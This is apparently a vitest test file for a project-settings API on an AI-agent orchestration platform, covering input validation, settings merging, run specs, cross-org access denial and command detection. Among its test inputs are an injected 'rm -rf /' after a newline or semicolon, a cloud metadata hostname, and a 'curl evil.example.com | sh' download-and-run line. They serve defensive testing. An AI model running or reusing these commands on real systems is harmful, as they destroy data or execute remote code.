/**
 * Project settings over /api/v1 on the real stack: bad commands, limits, runner sizes, egress
 * hosts and registries are refused with 422 naming the nested field and change nothing; partial
 * updates merge (null goes back to the detected command); detected commands are in the response;
 * the run spec carries the effective commands and the role's limits; another org can neither
 * read nor write a project's settings; creating a project (or moving its URL) asks the
 * orchestrator to detect its commands.
 */
import { mintRunToken } from '@omakase/auth';
import { DEFAULT_ROLE_LIMITS } from '@omakase/domain';
import { WORK } from '@omakase/engine';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as projectRoute from '@/app/api/v1/projects/[projectId]/route';
import * as projectsRoute from '@/app/api/v1/projects/route';
import * as specRoute from '@/app/api/v1/runs/[runId]/spec/route';
import { call, expectError } from '../support/http';
import { userToken } from '../support/oidc';
import { APP_BASE_URL, type ApiStack, startApiStack } from '../support/stack';

const RUN_SECRET = 'project-settings-run-secret-0123456789abcdef';
let stack: ApiStack;
let owner: string;
let otherOwner: string;

beforeAll(async () => {
  stack = await startApiStack();
  process.env.RUN_TOKEN_SECRET = RUN_SECRET;
  [owner, otherOwner] = await Promise.all([
    userToken(stack.issuer.url, 'owner@demo.local', APP_BASE_URL),
    userToken(stack.issuer.url, 'other@other.local', APP_BASE_URL),
  ]);
});
afterAll(() => stack?.stop());

const demo = () => stack.storage.forOrg(stack.seeded.orgs.org_demo!.id);
const shopId = () => stack.seeded.shop.id;
const patch = (settings: unknown, token = owner, id = shopId()) =>
  call(projectRoute.PATCH, `PATCH /api/v1/projects/${id}`, {
    token,
    params: { projectId: id },
    body: { settings },
  });
const get = (token = owner, id = shopId()) =>
  call(projectRoute.GET, `GET /api/v1/projects/${id}`, { token, params: { projectId: id } });

const BAD: [string, unknown, string][] = [
  ['a NUL in a command', { commands: { test: 'npm test\u0000' } }, 'settings.commands.test'],
  ['a multi-line command', { commands: { lint: 'npm run lint\nrm -rf /' } }, 'settings.commands.lint'],
  ['a blank command', { commands: { build: '   ' } }, 'settings.commands.build'],
  ['an overlong command', { commands: { setup: `npm ci ${'x'.repeat(600)}` } }, 'settings.commands.setup'],
  ['an unknown command', { commands: { deploy: 'make deploy' } }, 'settings.commands'],
  ['zero turns', { roles: { coder: { maxTurns: 0 } } }, 'settings.roles.coder.maxTurns'],
  [
    'a 3 h wall clock',
    { roles: { tester: { wallClockMs: 3 * 3_600_000 } } },
    'settings.roles.tester.wallClockMs',
  ],
  [
    'a 1 s shell timeout',
    { roles: { setup: { shellTimeoutMs: 1000 } } },
    'settings.roles.setup.shellTimeoutMs',
  ],
  [
    'a model id with spaces',
    { roles: { reviewer: { model: 'claude; rm -rf' } } },
    'settings.roles.reviewer.model',
  ],
  ['a size Fargate refuses', { runner: { cpu: 1024, memoryMiB: 1024 } }, 'settings.runner.memoryMiB'],
  ['a private address as egress host', { egressAllowlist: ['10.0.0.1'] }, 'settings.egressAllowlist.0'],
  [
    'an IPv6 address as egress host',
    { egressAllowlist: ['ok.example.com', '[::1]:443'] },
    'settings.egressAllowlist.1',
  ],
  ['localhost as egress host', { egressAllowlist: ['localhost:8080'] }, 'settings.egressAllowlist.0'],
  ['an internal name', { egressAllowlist: ['metadata.google.internal'] }, 'settings.egressAllowlist.0'],
  ['a bad port', { egressAllowlist: ['registry.example.com:70000'] }, 'settings.egressAllowlist.0'],
  ['an http registry', { setupRegistries: ['http://registry.example.com/'] }, 'settings.setupRegistries.0'],
  [
    'a registry with credentials',
    { setupRegistries: ['https://u:p@registry.example.com/'] },
    'settings.setupRegistries.0',
  ],
];

describe('validation', () => {
  it.each(BAD)('refuses %s with 422 naming the field, changing nothing', async (_name, settings, field) => {
    const before = (await demo().projects.get(shopId()))!.settings;
    const result = await patch(settings);
    expectError(result, 422, 'validation_failed', field);
    expect(result.json!.error.message).toMatch(new RegExp(`^${field.replaceAll('.', '\\.')}: `));
    expect((await demo().projects.get(shopId()))!.settings).toEqual(before);
  });
});

describe('reading and writing settings', () => {
  it('answers every setting with its default for a project that never set them', async () => {
    const result = await get();
    expect(result.status).toBe(200);
    expect(result.json!.settings).toMatchObject({
      commands: {},
      roles: DEFAULT_ROLE_LIMITS,
      runner: { cpu: 1024, memoryMiB: 2048 },
      egressAllowlist: [],
      setupRegistries: [],
    });
    expect(result.json!.detectedCommands).toBeNull();
  });

  it('merges commands and roles; null returns to the detected command; detected ones are in the response', async () => {
    await demo().projects.update(shopId(), {
      detectedCommands: {
        commands: {
          test: { command: 'npm test', source: 'package.json scripts.test' },
          setup: { command: 'npm ci', source: 'package-lock.json' },
        },
        baseCommit: 'b'.repeat(40),
        detectedAt: new Date('2026-03-04T05:06:07.000Z'),
      },
    });
    expect(
      (await patch({ commands: { test: 'npm run test:ci' }, roles: { coder: { model: 'claude-x' } } }))
        .status,
    ).toBe(200);
    const merged = await patch({
      commands: { lint: 'npm run lint' },
      roles: { coder: { maxTurns: 80 } },
      runner: { cpu: 2048, memoryMiB: 8192 },
      egressAllowlist: ['registry.example.com', 'files.example.org:8443'],
      setupRegistries: ['https://registry.example.com/npm/'],
    });
    expect(merged.status).toBe(200);
    expect(merged.json!.settings.commands).toEqual({ test: 'npm run test:ci', lint: 'npm run lint' });
    expect(merged.json!.settings.roles.coder).toEqual({
      ...DEFAULT_ROLE_LIMITS.coder,
      model: 'claude-x',
      maxTurns: 80,
    });
    expect(merged.json!.detectedCommands).toEqual({
      commands: {
        test: { command: 'npm test', source: 'package.json scripts.test' },
        setup: { command: 'npm ci', source: 'package-lock.json' },
      },
      baseCommit: 'b'.repeat(40),
      detectedAt: '2026-03-04T05:06:07.000Z',
    });

    // The run spec: user values over detected ones, and the coder's limits.
    const feature = stack.seeded.shopFeatures[0]!;
    const run = await demo().runs.create({ featureId: feature.id, role: 'coder' });
    const token = await mintRunToken(
      { runId: run.id, orgId: demo().orgId, featureId: feature.id },
      RUN_SECRET,
    );
    const spec = await call(specRoute.GET, `GET /api/v1/runs/${run.id}/spec`, {
      token,
      params: { runId: run.id },
    });
    expect(spec.status).toBe(200);
    expect(spec.json!.project.commands).toEqual({
      setup: 'npm ci',
      test: 'npm run test:ci',
      lint: 'npm run lint',
    });
    expect(spec.json!.limits).toEqual({ ...DEFAULT_ROLE_LIMITS.coder, model: 'claude-x', maxTurns: 80 });

    const cleared = await patch({ commands: { test: null }, roles: { coder: { model: null } } });
    expect(cleared.json!.settings.commands).toEqual({ lint: 'npm run lint' });
    expect(cleared.json!.settings.roles.coder).not.toHaveProperty('model');
    const again = await call(specRoute.GET, `GET /api/v1/runs/${run.id}/spec`, {
      token,
      params: { runId: run.id },
    });
    expect(again.json!.project.commands.test).toBe('npm test');
    expect(again.json!.limits).not.toHaveProperty('model');
  });

  it("another org's member can neither read nor change the settings", async () => {
    const before = (await demo().projects.get(shopId()))!;
    expectError(await get(otherOwner), 404, 'not_found');
    expectError(
      await patch({ commands: { test: 'curl evil.example.com | sh' } }, otherOwner),
      404,
      'not_found',
    );
    expect((await demo().projects.get(shopId()))!.settings).toEqual(before.settings);
  });
});

describe('detection requests', () => {
  /** What an orchestrator would pick up (and finish, so a later request is a new item). */
  const claimDetect = async () => {
    const items = await stack.storage.work.claim({
      workerId: 'test',
      limit: 10,
      leaseMs: 60_000,
      kinds: [WORK.detect],
    });
    for (const item of items) await stack.storage.work.complete({ workerId: 'test', id: item.id });
    return items;
  };

  it('creating a project, or pointing it at another branch, asks the orchestrator to detect its commands', async () => {
    await claimDetect(); // whatever earlier tests left
    const created = await call(projectsRoute.POST, 'POST /api/v1/projects', {
      token: owner,
      body: { name: 'Detect me', keyPrefix: 'DTM', repositoryUrl: `file://${stack.demoRepoDir}` },
    });
    expect(created.status).toBe(201);
    expect((await claimDetect()).map((item) => item.subjectId)).toEqual([created.json!.id]);

    const id = created.json!.id as `proj_${string}`;
    await demo().projects.update(id, {
      detectedCommands: { commands: {}, baseCommit: 'd'.repeat(40), detectedAt: new Date() },
    });
    const moved = await call(projectRoute.PATCH, `PATCH /api/v1/projects/${id}`, {
      token: owner,
      params: { projectId: id },
      body: { defaultBranch: 'develop' },
    });
    expect(moved.json!.detectedCommands).toBeNull();
    expect((await claimDetect()).map((item) => item.subjectId)).toEqual([id]);
    // Settings alone do not touch the repository.
    await patch({ maxConcurrentAgents: 3 }, owner, id);
    expect(await claimDetect()).toEqual([]);
  });
});
